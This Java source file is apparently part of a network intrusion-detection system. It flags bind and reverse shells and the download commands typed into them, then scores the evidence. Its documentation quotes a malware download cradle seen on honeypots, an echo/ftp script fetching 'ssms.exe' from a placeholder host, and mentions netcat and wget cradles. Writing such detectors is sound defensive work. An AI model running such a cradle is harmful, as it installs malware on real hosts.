package org.hyakuyobako.detect.shell;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Consumer;
import org.hyakuyobako.decode.IpAddresses;
import org.hyakuyobako.detect.LruMap;
import org.hyakuyobako.event.ConnectionRef;
import org.hyakuyobako.event.Endpoints;
import org.hyakuyobako.event.Event;
import org.hyakuyobako.event.EvidenceEvent;
import org.hyakuyobako.net.HomeNet;
import org.hyakuyobako.proto.ContentObserver;

/**
 * Command shells on connections no protocol explains (D6, the step between an exploit and the
 * download): a host that serves a command prompt to another (a bind shell, Blaster's port 4444) or
 * sends one out (a reverse shell), and the commands typed into it, above all the download cradles
 * that fetch the bot (seed 000's honeypots: "echo open X > o & echo get ssms.exe >> o & ftp -s:o").
 * Commands packed into a connection without a prompt (an exploit's payload, a netcat pipe) count
 * when they fetch code.
 *
 * <p>The host that runs the commands gets evidence {@code shell} (stage exploit): 0.6 for a prompt
 * alone, 0.85 when commands are run in it, 0.9 when they fetch code; 0.4 for download commands
 * pushed without any prompt (an exploit's payload that may have failed: it counts through a chain). Its references name the
 * addresses the commands fetch from ({@code named:ADDRESS}), which the correlation's infection
 * chain links to the download that follows. A monitored host that types commands into another's
 * shell gets {@code shell-control} (stage outbound: it is spreading): 0.75, and 0.9 when its commands
 * fetch or start code there (a worm launching its copy, as Blaster does through port 4444; people
 * administer hosts with RDP, SSH, WinRM or PsExec, not through a bare cmd.exe on an odd port). Remote-administration ports
 * (telnet, SSH, RDP, WinRM) are left alone. Once per executor, controller and port.
 */
public final class ShellSessionDetector implements ContentObserver {
    static final Set<Integer> ADMIN_PORTS = Set.of(22, 23, 3389, 5985, 5986);
    static final double PROMPT_ONLY = 0.6;
    static final double COMMANDS_RUN = 0.85;
    static final double CODE_FETCHED = 0.9;
    static final double CONTROLLER = 0.75;
    static final double CONTROLLER_LAUNCHING_CODE = 0.9;
    /** Download commands with no prompt seen: alone under any verdict; a link of an infection chain when the download comes. */
    static final double PUSHED_COMMANDS = 0.4;

    private final HomeNet homeNet;
    private final Consumer<Event> emit;
    private final Map<String, Boolean> reported = new LruMap<>(100_000);
    private long shells;
    private long cradles;

    public ShellSessionDetector(HomeNet homeNet, Consumer<Event> emit) {
        this.homeNet = homeNet;
        this.emit = emit;
    }

    @Override
    public void unidentified(ConnectionRef conn, long firstNanos, long lastNanos, byte[] client, int clientLength, byte[] server,
                             int serverLength) {
        String clientText = new String(client, 0, clientLength, StandardCharsets.ISO_8859_1);
        String serverText = new String(server, 0, serverLength, StandardCharsets.ISO_8859_1);
        if (!ShellTextAnchors.mayHold(clientText) && !ShellTextAnchors.mayHold(serverText)) {
            return;
        }
        String serverShell = ADMIN_PORTS.contains(conn.destPort()) ? null : ShellBanner.of(serverText);
        String clientShell = ShellBanner.of(clientText);
        ShellCommands.Reading toServer = ShellCommands.read(clientText);
        ShellCommands.Reading toClient = ShellCommands.read(serverText);
        if (serverShell != null || clientShell == null && toServer.downloads() && !ADMIN_PORTS.contains(conn.destPort())) {
            // A bind shell (or commands pushed in): the server runs what the client sends.
            judge(conn, conn.destIp(), conn.srcIp(), conn.srcIp(), serverShell, toServer, firstNanos,
                    lastNanos, "on tcp/" + conn.destPort());
        } else if ((clientShell != null || toClient.downloads()) && !ADMIN_PORTS.contains(conn.destPort())) {
            // A reverse shell: the client connected out and runs what the server sends.
            judge(conn, conn.srcIp(), conn.destIp(), Endpoints.format(conn.destIp(), conn.destPort()), clientShell, toClient, firstNanos,
                    lastNanos, "to " + Endpoints.format(conn.destIp(), conn.destPort()));
        }
    }

    /** @param peer how the executor's evidence names the controller: its address, with the port it listens on for a reverse shell */
    private void judge(ConnectionRef conn, String executor, String controller, String peer, String shell,
                       ShellCommands.Reading commands, long first, long last, String where) {
        if (shell == null && !commands.downloads()) {
            return;
        }
        if (reported.put(executor + " " + controller + " " + where, Boolean.TRUE) != null) {
            return;
        }
        shells++;
        List<String> refs = new ArrayList<>(List.of("flow:" + conn.flowId()));
        commands.named().forEach(n -> refs.add("named:" + n));
        commands.files().stream().limit(5).forEach(f -> refs.add("file:" + clip(f, 80)));
        String what = describe(commands);
        // Without a prompt, commands pushed into a connection may be an exploit attempt that did nothing
        // (ADB, Redis and router exploits carry wget cradles to every honeypot): they count when code follows.
        double score = shell == null ? PUSHED_COMMANDS : commands.downloads() ? CODE_FETCHED : commands.isEmpty() ? PROMPT_ONLY : COMMANDS_RUN;
        if (commands.downloads()) {
            cradles++;
        }
        long[] exec = IpAddresses.parse(executor);
        if (homeNet.contains(exec[0], exec[1])) {
            String summary = (shell != null ? "serves " + shell + " " + where + " to " + controller : "receives commands " + where
                    + " from " + controller) + (what.isEmpty() ? "" : "; its commands " + what);
            emit.accept(new EvidenceEvent(first, last, executor, peer, "shell", score, summary, refs));
        }
        long[] ctl = IpAddresses.parse(controller);
        if (homeNet.contains(ctl[0], ctl[1]) && !controller.equals(executor)) {
            emit.accept(new EvidenceEvent(first, last, controller, executor, "shell-control",
                    commands.isEmpty() ? CONTROLLER : CONTROLLER_LAUNCHING_CODE,
                    "types commands into " + (shell != null ? shell : "a shell") + " on " + executor + (what.isEmpty() ? "" : ": " + what), refs));
        }
    }

    /** The commands in a few words: what is fetched and started, quoted and cut. */
    private static String describe(ShellCommands.Reading r) {
        List<String> parts = new ArrayList<>();
        if (!r.fetches().isEmpty()) {
            parts.add("fetch " + String.join(", ", r.fetches().stream().limit(3).map(f -> "'" + clip(f, 100) + "'").toList()));
        }
        if (!r.starts().isEmpty()) {
            parts.add("start " + String.join(", ", r.starts().stream().limit(3).map(s -> "'" + clip(s, 60) + "'").toList()));
        }
        return String.join(" and ", parts);
    }

    private static String clip(String s, int max) {
        StringBuilder out = new StringBuilder();
        s.codePoints().limit(max).forEach(c -> out.append(c < 0x20 || c >= 0x7f && c < 0xa0 ? '?' : (char) c));
        return out.toString();
    }

    @Override
    public Map<String, Long> counters() {
        Map<String, Long> c = new LinkedHashMap<>();
        c.put("shell.sessions", shells);
        c.put("shell.download_cradles", cradles);
        return c;
    }
}
